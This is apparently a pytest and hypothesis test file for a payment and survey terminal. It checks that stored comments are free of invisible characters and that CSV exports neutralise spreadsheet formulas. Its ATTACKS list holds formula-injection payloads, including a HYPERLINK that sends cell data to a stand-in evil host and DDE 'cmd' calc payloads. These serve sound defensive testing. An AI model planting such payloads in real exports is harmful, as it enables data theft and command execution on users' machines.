"""Stored text is clean (no bidi overrides, zero-width or control characters, NFC) and every CSV
the project writes — survey exports and the bank registry — holds no cell a spreadsheet would run
as a formula, except numbers the project wrote itself. Through the tablet API and the service-mode
export on real SQLite files, and as properties over arbitrary text (hypothesis)."""
from __future__ import annotations

import csv
import io
import json
import re
import time
import unicodedata
import uuid as uuidlib
from datetime import date

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from payments import registry
from payments.money import format_plain
from tests.helpers import service_login
from tests.terminal.surveys.conftest import NOW, answer as store_answer
from terminal.state import state

# Written out here, not imported: the test must not trust the code's own list.
TRIGGERS = set("=+-@\t\r\n") | {"\uff1d", "\uff0b", "\uff0d", "\uff20"}
INVISIBLE = ("Cc", "Cf", "Cs", "Co")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
BIDI_AND_FRIENDS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u200b\u200c\u200d\u2060\ufeff\u00ad"


def first_visible(text: str) -> str:
    """What a spreadsheet (or an importer that trims spaces) takes as the start of the cell."""
    for ch in text:
        if ch in "\t\r\n":
            return ch
        if ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf", "Zs", "Zl", "Zp"):
            continue
        return ch
    return ""


def assert_safe_cells(rows: list[list[str]], numeric_columns: set[int]):
    for row in rows:
        for i, value in enumerate(row):
            if i in numeric_columns and PLAIN_NUMBER.fullmatch(value):
                continue                  # a number the project wrote: left for the spreadsheet to add up
            assert first_visible(value) not in TRIGGERS, (i, value)


def assert_clean(text: str):
    assert all(ch == "\n" or unicodedata.category(ch) not in INVISIBLE for ch in text), ascii(text)
    assert unicodedata.is_normalized("NFC", text)


# --- comments and other text from tablets -----------------------------------------------------------
@pytest.fixture
def tablet_api(app, client):
    store = state(app).surveys
    branch = state(app).catalogue.branches[0].id
    tablet, token = store.register_tablet("Планшет 1", branch, "Вікно 1", "desk")

    def send(body: bytes | dict):
        kwargs = {"json": body} if isinstance(body, dict) else {"data": body, "content_type": "application/json"}
        return client.post("/api/survey/answers", headers={"Authorization": f"Bearer {token}"}, **kwargs)
    send.store = store
    return send


def comment_answer(comment: str) -> dict:
    return {"uuid": str(uuidlib.uuid4()), "survey": "desk", "version": 1, "answered_at": time.time() - 30,
            "main": "good", "path": [], "nps": None, "comment": comment, "lang": "uk"}


def test_bidi_zero_width_and_control_characters_are_removed_from_comments(tablet_api):
    comment = ("\u202eЧудово\u202c обслужили, \u2066тел\u2069 050\u200b123\u200d45\u206067\r\n"
               "дякую\x00\x1b[31m\ufeff И\u0306\u00ad\u2028кінець\U000e0041")
    a = comment_answer(comment)
    response = tablet_api({"sent_at": time.time(), "answers": [a]})
    assert response.status_code == 200 and response.get_json()["results"][0]["status"] == "stored"
    stored = tablet_api.store.answer(a["uuid"])["comment"]
    assert_clean(stored)
    # The zero-width characters no longer hide the phone number from the masking.
    assert "0501234567" not in re.sub(r"\D", "", stored) and "••67" in stored
    assert stored.startswith("Чудово обслужили, тел ") and "67\nдякую[31m Й\nкінець" in stored


def test_a_lone_surrogate_in_a_comment_is_dropped_not_a_server_error(tablet_api):
    a = comment_answer("PLACEHOLDER")
    body = json.dumps({"sent_at": time.time(), "answers": [a]}).replace("PLACEHOLDER", "до\\ud800бре")
    response = tablet_api(body.encode())
    assert response.status_code == 200 and response.get_json()["results"][0]["status"] == "stored"
    assert tablet_api.store.answer(a["uuid"])["comment"] == "добре"


def test_a_rejected_answer_with_a_garbage_id_stores_and_logs_nothing_invisible(tablet_api, caplog):
    body = json.dumps({"sent_at": time.time(), "answers": [{"uuid": "PLACEHOLDER", "main": "good"}]})
    body = body.replace("PLACEHOLDER", "x\\n\\u202e\\ud800FAKE LOG LINE\\r\\n")
    response = tablet_api(body.encode())
    assert response.status_code == 200 and response.get_json()["results"][0]["status"] == "rejected"
    (rejection,) = tablet_api.store.rejections()
    assert_clean(rejection["uuid"])
    assert "\n" not in rejection["uuid"] and "FAKE LOG LINE" in rejection["uuid"]
    assert all("\n" not in r.getMessage() and "\u202e" not in r.getMessage() for r in caplog.records)


BIG = 10 ** 30


@pytest.mark.parametrize("change, error", [
    ({"shift_id": BIG}, "unknown_shift"), ({"shift_id": -BIG}, "unknown_shift"), ({"shift_id": 0}, "unknown_shift"),
    ({"version": BIG}, "unknown_survey"), ({"version": -1}, "unknown_survey"), ({"survey": "x" * 100_000}, "unknown_survey"),
    ({"answered_at": 10 ** 400}, "bad_time"), ({"answered_at": -(10 ** 400)}, "bad_time"), ({"answered_at": BIG}, "bad_time"),
    ({"main": "y" * 100_000}, "unknown_option"), ({"main": {"a": [1, 2]}}, "unknown_option"),
    ({"uuid": str(uuidlib.uuid4()) + "\n"}, "bad_uuid"), ({"nps": BIG}, "out_of_range"),
    ({"main": "bad", "path": [["why_bad", "z" * 100_000]]}, "unknown_option"),
    ({"main": "bad", "path": [["q\u202e" * 1000, "waiting"]]}, "unknown_option"),
])
def test_no_value_in_an_answer_is_a_server_error(tablet_api, change, error):
    a = dict(comment_answer("ок"), **change)
    response = tablet_api({"sent_at": time.time(), "answers": [a]})
    assert response.status_code == 200
    (result,) = response.get_json()["results"]
    assert (result["status"], result["error"]) == ("rejected", error)
    assert len(result["message"]) < 200             # the tablet's value is not echoed at length
    assert tablet_api.store.count_answers() == 0


@pytest.mark.parametrize("sent_at", [10 ** 400, -(10 ** 400), 10 ** 30])
def test_a_batch_sent_at_a_huge_time_is_refused_not_a_server_error(tablet_api, sent_at):
    response = tablet_api(('{"sent_at": %d, "answers": []}' % sent_at).encode())
    assert response.status_code == 400 and response.get_json()["error"] == "bad_batch"


def test_a_comment_made_long_by_invisible_characters_still_fits_its_limit(tablet_api):
    a = comment_answer("ок" + "\u200b" * 498)        # 500 characters sent, 2 kept
    assert tablet_api({"sent_at": time.time(), "answers": [a]}).get_json()["results"][0]["status"] == "stored"
    assert tablet_api.store.answer(a["uuid"])["comment"] == "ок"


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(st.characters(exclude_categories=()), max_size=500))
def test_any_stored_comment_is_clean_and_within_its_limit(store, tablet, text):
    a = store_answer(comment=text, at=NOW - 60)
    result = store.ingest(tablet, [a], now=NOW)[0]
    if result["status"] == "rejected":
        assert result["error"] == "comment_too_long"
        return
    stored = store.answer(a["uuid"])["comment"]
    if stored is not None:
        assert_clean(stored)
        assert len(stored) <= 500 and stored == stored.strip()


def test_tablet_desk_and_administrator_names_are_cleaned(store):
    tablet, _ = store.register_tablet("\u202eПланшет\u200b 1", "central", "Вікно\u2066 2\u2069\n", "desk")
    admin = store.add_administrator("Оле\u0301на\u200f К.", "central", "432154")
    assert (tablet.label, tablet.desk) == ("Планшет 1", "Вікно 2")
    assert admin.name == unicodedata.normalize("NFC", "Оле\u0301на К.")


def test_survey_texts_shown_to_visitors_are_cleaned(store):
    import yaml
    from terminal.surveys.definitions import DEFAULT_DEFINITION
    data = yaml.safe_load(DEFAULT_DEFINITION)
    data["main"]["faces"][0]["label"]["uk"] = "Дуже \u202eпогано\u202c\u200b"
    data["title"]["en"] = "\u2067Service\u2069 rating\n"
    survey_id, version = store.save_definition(yaml.safe_dump(data, allow_unicode=True))
    definition = store.definition(survey_id, version)
    assert definition.title["en"] == "Service rating"
    assert definition.label("main", data["main"]["faces"][0]["id"], "uk") == "Дуже погано"


# --- CSV exports -------------------------------------------------------------------------------------
ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+380501234567", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\u200b=1+1", "\uff1d1+1", "\uff0b1",
           "\uff0d1", "\uff20SUM(A1)", "-12.50", "=1+1\n=2+2"]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_survey_csv_exports_neutralise_every_formula(app, client):
    store = state(app).surveys
    branch = state(app).catalogue.branches[0].id
    tablet, token = store.register_tablet("Планшет", branch, "=HYPERLINK(\"http://evil.example\")", "desk")
    admin = store.add_administrator("@SUM(A1) Олена", branch, "432154")
    now = time.time()
    shift = store.start_shift(tablet, "432154", now=now - 3600).id
    answers = [dict(comment_answer(text), answered_at=now - 600 + 20 * i, shift_id=shift, nps=i % 11,
                    main=["very_bad", "good"][i % 2]) for i, text in enumerate(ATTACKS)]
    results = client.post("/api/survey/answers", json={"sent_at": now, "answers": answers},
                          headers={"Authorization": f"Bearer {token}"}).get_json()["results"]
    assert {r["status"] for r in results} == {"stored"}
    assert service_login(client, "000000").status_code == 302

    rows = read_csv(client.get("/service/surveys/reports.csv").data.decode("utf-8"))
    header, body = rows[0], rows[1:]
    assert len(body) == len(ATTACKS)
    numeric = {header.index(c) for c in ("tablet_id", "version", "score", "scale", "score_1_5", "nps", "counted")}
    assert_safe_cells(rows, numeric)
    comments = {r[header.index("comment")] for r in body}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in comments and "'-12.50" in comments
    assert {r[header.index("administrator")] for r in body} == {"'@SUM(A1) Олена"}
    assert {r[header.index("desk")] for r in body} == {"'=HYPERLINK(\"http://evil.example\")"}

    summary = read_csv(client.get("/service/surveys/reports.csv?kind=summary&group=admin").data.decode("utf-8"))
    assert_safe_cells(summary, {1, 2, 3, 4, 5})
    (line,) = summary[1:]
    assert line[0] == "'@SUM(A1) Олена"
    assert float(line[4]) < 0 and not line[4].startswith("'")      # a negative loyalty index stays a number


SAFE_TEXT = st.one_of(st.sampled_from(ATTACKS), st.text(max_size=40),
                      st.builds(lambda t, s: t + s, st.sampled_from(sorted(TRIGGERS)), st.text(max_size=10)))


@settings(max_examples=200, deadline=None)
@given(surname=SAFE_TEXT, purpose=SAFE_TEXT, recipient=SAFE_TEXT, code=SAFE_TEXT, method=SAFE_TEXT,
       amount=st.integers(-10**9, 10**9), count=st.integers(0, 10**6))
def test_no_bank_registry_cell_runs_as_a_formula(surname, purpose, recipient, code, method, amount, count):
    payment = {"receipt_no": code, "paid_at": "2026-03-10T10:00:00+02:00", "journal_id": 1, "purpose_code": code,
               "purpose": purpose, "payer_surname": surname, "payer_id_kind": method, "payer_code": code,
               "amount_kop": amount, "commission_kop": amount // 3, "total_kop": amount + amount // 3,
               "method": method, "card_rrn": code, "card_approval_code": code}
    data = {"date": "2026-03-10", "terminal_id": recipient,
            "accounts": [{"iban": code, "recipient": recipient, "edrpou": code, "count": count, "amount_kop": amount,
                          "payments": [payment]}],
            "totals": {"count": count, "amount_kop": amount, "commission_kop": amount // 3,
                       "total_kop": amount + amount // 3}}
    rows = read_csv(registry.to_csv(data))
    header = rows[0]
    numeric = {header.index(c) for c in ("amount", "commission", "total", "count")}
    assert_safe_cells(rows, numeric)
    # The amounts the registry writes stay plain numbers a spreadsheet adds up, minus sign included.
    assert rows[1][header.index("amount")] == format_plain(amount)
    assert rows[1][header.index("payer_surname")] in (surname, "'" + surname)


@settings(max_examples=500, deadline=None)
@given(values=st.lists(st.one_of(st.text(st.characters(exclude_categories=())), st.integers(), st.floats(),
                                 st.decimals(), st.none(), st.booleans()), max_size=8))
def test_the_csv_writer_never_writes_a_formula_only_numbers_it_was_given(values):
    from payments import csvsafe
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerow(values)
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) or [[]]
    for value, written in zip(values, row):
        number = (isinstance(value, int) and not isinstance(value, bool)) or (
            isinstance(value, float) and value == value and abs(value) != float("inf")) or (
            hasattr(value, "is_finite") and value.is_finite())
        if not number:
            assert first_visible(written) not in TRIGGERS, (value, written)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(desk=SAFE_TEXT, name=SAFE_TEXT, comment=SAFE_TEXT)
def test_no_cell_of_the_survey_answers_export_runs_as_a_formula(store, desk, name, comment):
    from hypothesis import assume

    from payments import csvsafe
    from terminal.surveys import reports
    from terminal.surveys.store import SurveyInputError
    try:
        tablet, _ = store.register_tablet("T", "central", desk, "desk")
    except SurveyInputError:
        assume(False)
    store.ingest(tablet, [store_answer("bad", at=NOW - 60, comment=comment or None, nps=3,
                                       path=[["why_bad", "waiting"]])], now=NOW)
    buffer = io.StringIO()
    writer = csvsafe.writer(buffer)
    writer.writerow(reports.CSV_COLUMNS)
    filters = reports.Filters(date(2020, 1, 1), date(2030, 1, 1))
    # Administrator names as staff typed them (not cleaned): the writer alone must make them safe.
    writer.writerows(reports.csv_rows(store, filters, {0: name}))
    rows = read_csv(buffer.getvalue())
    header = rows[0]
    numeric = {header.index(c) for c in ("tablet_id", "version", "score", "scale", "score_1_5", "nps", "counted")}
    assert_safe_cells(rows, numeric)
    assert {r[header.index("administrator")] for r in rows[1:]} <= {name, "'" + name}
